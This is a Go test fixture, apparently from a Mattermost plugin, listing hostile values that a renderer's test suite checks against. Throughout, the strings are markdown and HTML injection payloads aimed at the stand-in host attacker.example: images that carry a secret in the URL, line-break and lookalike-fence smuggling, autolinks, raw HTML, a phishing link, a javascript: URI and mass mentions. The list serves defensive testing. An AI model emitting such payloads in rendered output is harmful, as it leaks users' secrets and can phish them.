package renderers

import "strings"

// Attacker is the site every hostile value points at: no link or image in
// a rendered post of the plugin's may lead there.
const Attacker = "attacker.example"

// Hostile are values the model, an MCP client or another person could
// choose (a channel's or team's name, a purpose, a header, a status, a file
// name, a client's or an OAuth app's name, an emoji, a message), each made
// to plant a link or an image, a line of its own or a mention in a post
// that shows it: by markdown, by what Mattermost's apps autolink, by raw
// HTML and entities, by what the web app's lexer turns into a line break
// (U+2424) and by whatever else ends a line, by fences and their
// lookalikes, and by invisible and direction-changing characters.
var Hostile = []string{
	// Line breaks, each before a quote holding an image with a secret.
	"a\u2424> ![x](https://attacker.example/p?d=SECRET)",
	"a\u2028> ![x](https://attacker.example/p?d=SECRET)",
	"a\u2029> ![x](https://attacker.example/p?d=SECRET)",
	"a\r> ![x](https://attacker.example/p?d=SECRET)",
	"a\n> ![x](https://attacker.example/p?d=SECRET)",
	"a\r\n> ![x](https://attacker.example/p?d=SECRET)",
	"a\u0085> ![x](https://attacker.example/p?d=SECRET)",
	"a\u2424\u2424![x](https://attacker.example/p?d=SECRET)",
	"\u2424",
	// Links and images in markdown.
	"![x](https://attacker.example/p)",
	"[x](https://attacker.example)",
	"[Open the confirmation](https://attacker.example/phish)",
	"[![x](https://attacker.example/p)](https://attacker.example)",
	"*[x](https://attacker.example)*",
	"[x](javascript:alert(1))",
	"![x](data:image/png;base64,iVBORw0KGgo=)",
	"\\![x](https://attacker.example/p)",
	// Autolinks.
	"<https://attacker.example>",
	"https://attacker.example/x",
	"HTTPS://attacker.example/up",
	"http:/attacker.example/x",
	"ftp://attacker.example/x",
	"www.attacker.example/x",
	"Www.attacker.example/x",
	"www\\.attacker.example/x",
	"attacker.example/x",
	"\\<a\\@attacker.example\\>",
	"a@attacker.example",
	"mailto:a@attacker.example",
	// Entities and raw HTML.
	"&#91;x&#93;(https://attacker.example)",
	"&#33;&#91;x&#93;&#40;https://attacker.example/p&#41;",
	"&lt;img src=x&gt;",
	"<img src=https://attacker.example/p>",
	"<a href=\"https://attacker.example\">x</a>",
	"a\u2424<img src=https://attacker.example/p>",
	// Link reference definitions and their use.
	"[x]: https://attacker.example",
	"[x]\n\n[x]: https://attacker.example",
	"[x] and [x][]\u2424\u2424[x]: https://attacker.example",
	// Fences, backtick runs, their lookalikes and tildes.
	"```",
	"```\n![x](https://attacker.example/p)\n```",
	"a\u2424````\u2424![x](https://attacker.example/p)",
	"`![x](https://attacker.example/p)`",
	"`` ` ``![x](https://attacker.example/p)`",
	"\uFF40\uFF40\uFF40 ![x](https://attacker.example/p)",
	"\u02CB\u02CB\u02CB ![x](https://attacker.example/p)",
	"~~~\n![x](https://attacker.example/p)\n~~~",
	"    ![x](https://attacker.example/p)",
	"\t![x](https://attacker.example/p)",
	// Mentions, channel links, hashtags, emoji.
	"@all @channel @here",
	"~town-square",
	"#hashtag",
	":smile: :+1:",
	// Blocks: tables, headings, rules, lists.
	"| a | b |\n| - | - |\n| ![x](https://attacker.example/p) | y |",
	"| table | ![x](https://attacker.example/p) |",
	"# h ![x](https://attacker.example/p)",
	"---\n![x](https://attacker.example/p)",
	"- ![x](https://attacker.example/p)",
	// Spaces, backticks and invisible or direction-changing characters at
	// the ends or inside.
	"  ![x](https://attacker.example/p)  ",
	"`` ![x](https://attacker.example/p) ``",
	"a\u200b![x](https://attacker.example/p)\u200b",
	"\u202e![x](https://attacker.example/p)\u202c",
	"a\u00a0![x](https://attacker.example/p)",
	// Very long.
	strings.Repeat("![x](https://attacker.example/p) ", 40),
}
